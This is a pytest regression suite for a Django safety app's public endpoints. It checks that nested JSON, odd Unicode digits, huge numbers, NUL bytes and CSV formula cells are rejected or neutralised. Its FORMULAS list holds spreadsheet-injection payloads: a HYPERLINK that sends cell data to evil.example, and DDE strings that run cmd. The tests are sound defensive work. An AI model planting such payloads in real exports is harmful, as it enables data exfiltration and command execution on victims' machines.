"""Issue 16: the security probe's hostile inputs against every public endpoint, kept as a regression
suite. Each answers a clean 4xx (never a 500) and stores nothing; or, where the input is a valid
value in disguise (a phone in full-width digits), it is understood as that value.

Inputs: deeply nested JSON (5-6), non-ASCII digits (5), huge numbers and NUL bytes (7), formula
cells (8). HTML in text fields is checked in a real browser
(tests/hwaseong_safety/browser/test_hostile_text.py).
"""

from __future__ import annotations

import hashlib
import hmac
import re
import time

import pytest
from rest_framework.test import APIClient

from alerts.models import Alert, AlertLocation, Trip, TripLocation
from citizens.models import Citizen, PhoneVerification
from guardians.models import Guardian
from sms.models import SmsMessage
from sms.transports import LocmemTransport
from tests.factories import make_camera, make_center, make_staff
from tests.fixtures.alerts import loc, start_trip
from tests.fixtures.centers import HWASEONG_BBOX, INSIDE_HWASEONG
from tests.fixtures.citizens import make_app_user

pytestmark = pytest.mark.django_db

NESTED = b"[" * 10_000  # what the probe sent: 10 KB of '['
NESTED_IN_OBJECT = b'{"phone": ' + b"[" * 5_000 + b"]" * 5_000 + b"}"  # parses in C, too deep for us
DEEP_BUT_PARSEABLE = b'{"location": ' + b'{"a": ' * 200 + b"1" + b"}" * 200 + b"}"

FULL_WIDTH = "０１０－１２３４－５６７８"
DEEP_BODIES = [NESTED, NESTED_IN_OBJECT, DEEP_BUT_PARSEABLE]
ARABIC_INDIC = "٠١٠١٢٣٤٥٦٧٨"
EXTENDED_ARABIC = "۰۱۰۱۲۳۴۵۶۷۸"
ASCII = "01012345678"


@pytest.fixture
def city(db) -> None:
    make_center("41590", HWASEONG_BBOX, name="화성시")


@pytest.fixture(autouse=True)
def _outbox():
    LocmemTransport.outbox.clear()
    yield LocmemTransport.outbox
    LocmemTransport.outbox.clear()


def nothing_stored() -> bool:
    return not (Alert.objects.exists() or AlertLocation.objects.exists() or Trip.objects.exists()
                or TripLocation.objects.exists() or PhoneVerification.objects.exists()
                or SmsMessage.objects.exists())


# --- deeply nested JSON ---------------------------------------------------------------------------

PUBLIC = ["/api/v1/app/register", "/api/v1/app/verify"]
WITH_TOKEN = ["/api/v1/alerts/", "/api/v1/trips/", "/api/v1/guardians/"]


@pytest.mark.parametrize("body", DEEP_BODIES, ids=["raw", "in-object", "200"])
@pytest.mark.parametrize("path", PUBLIC)
def test_nested_json_to_public_endpoints_is_400(path, body):
    response = APIClient().post(path, body, content_type="application/json")
    assert response.status_code == 400, response.content[:200]
    assert nothing_stored() and not Citizen.objects.exists()


@pytest.mark.parametrize("body", DEEP_BODIES, ids=["raw", "in-object", "200"])
def test_nested_json_to_app_endpoints_is_400(city, body):
    user = make_app_user(guardian=False)
    sos = user.client.post("/api/v1/alerts/", {"client_id": "6a3b2f1e-0000-4000-8000-000000000001",
                                               "location": loc(INSIDE_HWASEONG)}, format="json")
    assert sos.status_code == 201
    alert_id = sos.json()["id"]
    Alert.objects.all().delete()
    SmsMessage.objects.all().delete()
    paths = [*WITH_TOKEN, f"/api/v1/alerts/{alert_id}/locations/", f"/api/v1/alerts/{alert_id}/cancel"]
    for path in paths:
        response = user.client.generic("POST", path, body, content_type="application/json")
        assert response.status_code in (400, 404), (path, response.status_code, response.content[:200])
    patched = user.client.generic("PATCH", "/api/v1/app/me", body, content_type="application/json")
    assert patched.status_code == 400
    assert nothing_stored() and not Guardian.objects.exists()


@pytest.mark.parametrize("body", [NESTED, NESTED_IN_OBJECT], ids=["raw", "in-object"])
def test_nested_json_to_the_dispatch_callback_is_a_clean_4xx(settings, body):
    """Parsed (for the agency) before the signature is checked: unsigned, it must still be clean."""
    settings.DISPATCH_POLICE_SECRET = "police-secret-for-tests"
    unsigned = APIClient().post("/api/v1/dispatch/callback", body, content_type="application/json")
    assert unsigned.status_code == 400
    stamp = str(int(time.time()))
    mac = hmac.new(b"police-secret-for-tests", stamp.encode() + b"." + body, hashlib.sha256).hexdigest()
    signed = APIClient().post("/api/v1/dispatch/callback", body, content_type="application/json",
                              HTTP_X_HWASEONG_SIGNATURE=f"sha256={mac}", HTTP_X_HWASEONG_TIMESTAMP=stamp,
                              HTTP_X_HWASEONG_AGENCY="police")
    assert signed.status_code == 400


# --- non-ASCII digits in phone numbers ----------------------------------------------------------

@pytest.mark.parametrize("raw", [FULL_WIDTH, ARABIC_INDIC, EXTENDED_ARABIC, "+８２ １０ １２３４ ５６７８"])
def test_a_phone_in_other_digits_is_stored_as_ascii(raw):
    response = APIClient().post("/api/v1/app/register", {"phone": raw, "name": "a"}, format="json")
    assert response.status_code == 202
    assert list(PhoneVerification.objects.values_list("phone", flat=True)) == [ASCII]


@pytest.mark.parametrize("raw", ["010\x001234\x005678", "010-CALL-5678", "۰۱۰۱۲۳۴۵۶۷۸۹۹۹۹", "+1 650 253 0000",
                                 "1" * 10_000, "010 1234 5678\u202e"])
def test_not_a_korean_mobile_is_400(raw):
    response = APIClient().post("/api/v1/app/register", {"phone": raw, "name": "a"}, format="json")
    assert response.status_code == 400 and "phone" in response.json()
    assert nothing_stored()


def test_other_digits_make_no_second_account(_outbox, django_capture_on_commit_callbacks):
    Citizen.objects.create(phone=ASCII, name="원래")
    client = APIClient()
    with django_capture_on_commit_callbacks(execute=True):
        registered = client.post("/api/v1/app/register", {"phone": ARABIC_INDIC, "name": "b"}, format="json")
    assert registered.status_code == 202
    code = re.search(r"\[(\d{6})\]", _outbox[-1]["body"]).group(1)
    verified = client.post("/api/v1/app/verify", {"phone": FULL_WIDTH, "code": code}, format="json")
    assert verified.status_code == 200, verified.content
    assert Citizen.objects.count() == 1 and verified.json()["user"]["phone"] == ASCII


def test_other_digits_count_against_the_same_phone_throttle():
    forms = [ASCII, FULL_WIDTH, ARABIC_INDIC, EXTENDED_ARABIC, "+82 10 1234 5678"]
    codes = [APIClient().post("/api/v1/app/register", {"phone": raw, "name": "a"}, format="json",
                              REMOTE_ADDR=f"10.2.0.{n}").status_code for n, raw in enumerate(forms)]
    assert codes == [202] * 5
    sixth = APIClient().post("/api/v1/app/register", {"phone": FULL_WIDTH, "name": "a"}, format="json",
                             REMOTE_ADDR="10.2.1.1")
    assert sixth.status_code == 429


def test_other_digits_do_not_slip_past_the_guardian_checks():
    user = make_app_user(guardian=False)
    own = user.citizen.phone
    own_full_width = own.translate(str.maketrans("0123456789", "０１２３４５６７８９"))
    mine = user.client.post("/api/v1/guardians/", {"name": "나", "phone": own_full_width}, format="json")
    assert mine.status_code == 400 and "phone" in mine.json()
    first = user.client.post("/api/v1/guardians/", {"name": "엄마", "phone": ASCII}, format="json")
    assert first.status_code == 201
    again = user.client.post("/api/v1/guardians/", {"name": "엄마", "phone": ARABIC_INDIC}, format="json")
    assert again.status_code == 400 and "phone" in again.json()
    assert list(Guardian.objects.values_list("phone", flat=True)) == [ASCII]


# --- formula cells in CSV exports ---------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]


def _hostile_camera() -> None:
    """As a standard-data file from outside would bring it: formulas in the text columns."""
    import csv
    import io

    from cameras.exporting import STANDARD_COLUMNS
    from cameras.importing import import_cameras

    row = dict.fromkeys(STANDARD_COLUMNS, "")
    row.update({"관리기관명": "경기도 화성시청", "WGS84위도": "37.2", "WGS84경도": "126.9"})
    text_columns = ["관리번호", "소재지도로명주소", "소재지지번주소", "촬영방면정보", "관리기관전화번호",
                    "설치목적구분"]
    row.update(zip(text_columns, FORMULAS, strict=False))
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerows([STANDARD_COLUMNS, [row[name] for name in STANDARD_COLUMNS]])
    assert import_cameras(io.BytesIO(out.getvalue().encode("utf-8"))).created == 1


def _formula_cells(text: str) -> list[str]:
    import csv
    import io

    from hwaseong_safety.csvsafe import FORMULA_STARTS

    cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
    numeric = re.compile(r"\A-?[0-9.]+\Z")
    return [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not numeric.match(cell)]


def test_the_camera_export_writes_no_formula(tmp_path):
    from django.core.management import call_command

    from cameras.admin_views import export_response
    from cameras.models import Camera

    _hostile_camera()
    response = export_response(Camera.objects.all(), encoding="utf-8")  # the admin action's file
    assert _formula_cells(response.content.decode("utf-8-sig")) == []
    assert "'=HYPERLINK" in response.content.decode("utf-8-sig")
    path = tmp_path / "out.csv"
    call_command("export_cameras", str(path), stderr=__import__("io").StringIO())
    assert _formula_cells(path.read_text(encoding="utf-8-sig")) == []


def test_an_escaped_export_reimports_as_it_was(tmp_path):
    import io

    from cameras.exporting import write_standard_csv
    from cameras.importing import import_cameras
    from cameras.models import Camera

    _hostile_camera()
    out = io.StringIO()
    write_standard_csv(Camera.objects.all(), out)
    report = import_cameras(io.BytesIO(out.getvalue().encode("utf-8")))
    assert (report.created, report.updated, report.unchanged) == (0, 0, 1)
    assert Camera.objects.get().management_number == FORMULAS[0]


def test_csv_cells_keep_plain_numbers_and_escape_the_rest():
    from hwaseong_safety.csvsafe import safe_cell

    plain = ("-1", "-126.9", "+82", "1e-5", None, 3)
    assert [safe_cell(v) for v in plain] == ["-1", "-126.9", "+82", "1e-5", "", "3"]
    assert [safe_cell(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
    assert safe_cell("평범한 글") == "평범한 글"


# --- huge numbers, whole-world boxes and NUL bytes in addresses -----------------------------------

@pytest.fixture
def operator_client(client):
    client.force_login(make_staff("op"))
    return client


@pytest.mark.parametrize("bbox", ["-180,-90,180,90", "-179,-89,179,89", "-180,0,180,90", "0,-90,180,90"])
def test_world_sized_boxes_answer_the_cameras_in_them(operator_client, bbox):
    """Great-circle edges read these as slivers the other way round (0 cameras) or failed on
    antipodal corners (a 500); a map box is a range of longitudes and latitudes."""
    korea = make_camera(126.83, 37.20)
    response = operator_client.get("/api/v1/cameras/", {"bbox": bbox})
    assert response.status_code == 200, response.content[:200]
    ids = [feature["id"] for feature in response.json()["features"]]
    assert ids == [korea.id]


@pytest.mark.parametrize("bbox", ["170,-10,-170,10", f"126,37,{'9' * 400},38", "1e309,37,127,38",
                                  "126\x00,37,127,38"])
def test_impossible_boxes_are_400(operator_client, bbox):
    assert operator_client.get("/api/v1/cameras/", {"bbox": bbox}).status_code == 400


@pytest.mark.parametrize("query", [{"latitude": "9" * 400, "longitude": "126.9"},
                                   {"latitude": "37.2", "longitude": "126.9", "limit": "9" * 40},
                                   {"latitude": "37.2", "longitude": "126.9", "radius": "1e309"},
                                   {"latitude": "37.2\x00", "longitude": "126.9"}])
def test_nearest_with_huge_numbers_or_nul_is_400(operator_client, query):
    assert operator_client.get("/api/v1/cameras/nearest/", query).status_code == 400


@pytest.mark.parametrize("path", ["/t/abc%00def/", "/api/v1/alerts/%00/",
                                  "/admin/cameras/camera/%00/change/"])
def test_nul_in_a_path_is_400(admin_client, path):
    admin_client.raise_request_exception = False
    assert admin_client.get(path).status_code in (400, 404)


@pytest.mark.parametrize("latitude", ["1e999", "9" * 400, "-" + "9" * 400])
def test_an_sos_with_absurd_numbers_is_still_an_sos(city, latitude):
    """Never refused for its location (docs/app-api.md): the location is dropped, the SOS kept."""
    user = make_app_user(guardian=False)
    body = ('{"client_id": "00000000-0000-4000-8000-000000000001", "trigger": "button", '
            f'"location": {{"latitude": {latitude}, "longitude": 126.9}}}}')
    response = user.client.post("/api/v1/alerts/", body, content_type="application/json")
    assert response.status_code == 201, response.content[:300]
    assert Alert.objects.get().location is None


@pytest.mark.parametrize("fix", ['{"latitude": %s, "longitude": 126.9}' % ("9" * 400),
                                 '{"latitude": 37.2, "longitude": 126.9, "accuracy": 1e999}',
                                 '{"latitude": "37.2\\u0000", "longitude": 126.9}'])
def test_trip_locations_with_absurd_numbers_or_nul_are_400(city, fix):
    user = make_app_user(guardian=False)
    trip_id = start_trip(user).json()["id"]
    before = TripLocation.objects.count()
    response = user.client.post(f"/api/v1/trips/{trip_id}/locations/", f'{{"locations": [{fix}]}}',
                                content_type="application/json")
    assert response.status_code == 400, response.content[:300]
    assert TripLocation.objects.count() == before


@pytest.mark.parametrize("name", ["\x00", "a\x00b"])
def test_nul_in_text_fields_is_400(name):
    response = APIClient().post("/api/v1/app/register", {"phone": ASCII, "name": name}, format="json")
    assert response.status_code == 400 and nothing_stored()


@pytest.mark.parametrize(("method", "path"), [
    ("get", "/api/v1/alerts/{huge}/"), ("get", "/api/v1/trips/{huge}/"),
    ("post", "/api/v1/alerts/{huge}/locations/"),
    ("post", "/api/v1/trips/{huge}/arrive"), ("delete", "/api/v1/guardians/{huge}/"),
])
def test_huge_ids_in_app_paths_are_404(city, method, path):
    user = make_app_user(guardian=False)
    url = path.format(huge="9" * 40)
    body = {"locations": [loc(INSIDE_HWASEONG)]} if method == "post" else None
    response = getattr(user.client, method)(url, body, format="json")
    assert response.status_code == 404, (url, response.status_code)
